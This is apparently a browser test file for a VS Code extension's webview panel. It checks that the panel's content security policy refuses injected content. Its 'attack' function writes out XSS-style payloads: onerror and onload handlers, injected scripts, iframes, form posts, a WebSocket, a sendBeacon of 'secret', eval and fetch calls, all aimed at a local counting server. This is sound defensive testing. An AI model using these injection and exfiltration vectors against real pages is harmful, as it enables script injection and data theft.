import assert from 'node:assert/strict'
import { once } from 'node:events'
import { createServer } from 'node:http'
import { webviewFrame } from './harness/webview.mjs'

export const file = 'digits/lenet.ts'

/** What the policy refuses, by the names that the browser tells it by. */
const DIRECTIVES = [
  ...['script-src-elem', 'script-src-attr', 'script-src', 'style-src-elem', 'img-src', 'connect-src', 'frame-src'],
  ...['font-src', 'object-src', 'base-uri', 'form-action'],
]

/** Elsewhere in the network, as seen from the panel; counts who asks. */
async function elsewhere() {
  const asked = []
  const server = createServer((request, response) => {
    asked.push(request.url)
    response.setHeader('Access-Control-Allow-Origin', '*').end('globalThis.ran?.push("remote")')
  })
  await once(server.listen(0, '127.0.0.1'), 'listening')
  return { address: `http://127.0.0.1:${server.address().port}`, asked, close: () => server.close() }
}

export const tests = {
  'what gets into the panel neither runs, nor fetches, nor sends': async ({ page, editor }) => {
    await editor.lineMatching(/conv2d\(6.*28×28×6/)
    await editor.command('Convolens: Visualize Activations')
    const panel = await webviewFrame(page, 'Convolens: LeNet-5')
    await panel.getByTestId('explanation').waitFor()
    const { address, asked, close } = await elsewhere()
    // It is there, and would count.
    await fetch(`${address}/seen`)
    assert.deepEqual(asked.splice(0), ['/seen'])
    // Ends once the policy has refused every kind of attempt.
    const { ran, threw } = await panel.evaluate(attack, { address, directives: DIRECTIVES })
    close()
    assert.deepEqual(ran, [])
    assert.deepEqual(asked, [])
    assert.deepEqual(threw, ['eval', 'Function', 'fetch'])
  },
}

/** Runs in the panel, as what an attacker got into its document would. */
async function attack({ address, directives }) {
  const ran = []
  const threw = []
  const open = new Set(directives)
  globalThis.ran = ran
  const allRefused = new Promise(resolve => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      open.delete(effectiveDirective)
      if (open.size === 0) resolve()
    })
  })
  const put = (name, members, parent = document.body) => {
    const element = document.createElement(name)
    for (const [key, value] of Object.entries(members)) element.setAttribute(key, value)
    parent.append(element)
    return element
  }
  const markup = put('div', {})
  markup.innerHTML = `<img src="${address}/image.png"><img src="data:," onerror="ran.push('handler')"><svg onload="ran.push('svg')"></svg>`
  const inline = document.createElement('script')
  inline.textContent = "ran.push('inline')"
  document.body.append(inline)
  put('script', { src: `${address}/script.js` })
  put('script', { src: 'data:text/javascript,ran.push("data")' })
  put('link', { rel: 'stylesheet', href: `${address}/style.css` })
  put('iframe', { src: `${address}/frame.html` })
  put('object', { data: `${address}/object` })
  put('base', { href: address }, document.head)
  put('iframe', { name: 'other' })
  put('form', { action: `${address}/form`, method: 'post', target: 'other' }).submit()
  const font = new FontFace('stolen', `url(${address}/font.woff2)`)
  await font.load().catch(() => {})
  new WebSocket(address.replace('http', 'ws')).onopen = () => ran.push('socket')
  navigator.sendBeacon(`${address}/beacon`, 'secret')
  // Outside of the debugger's own call, which may evaluate what the page may not.
  await new Promise(resolve => {
    setTimeout(() => {
      for (const [name, evaluate] of [
        // biome-ignore lint/security/noGlobalEval: what is tried is that it is refused
        ['eval', text => eval(text)],
        ['Function', text => new Function(text)()],
      ]) {
        try {
          evaluate(`ran.push('${name}')`)
        } catch {
          threw.push(name)
        }
      }
      resolve()
    })
  })
  await fetch(`${address}/fetch`).then(
    () => ran.push('fetch'),
    () => threw.push('fetch'),
  )
  await allRefused
  return { ran, threw }
}
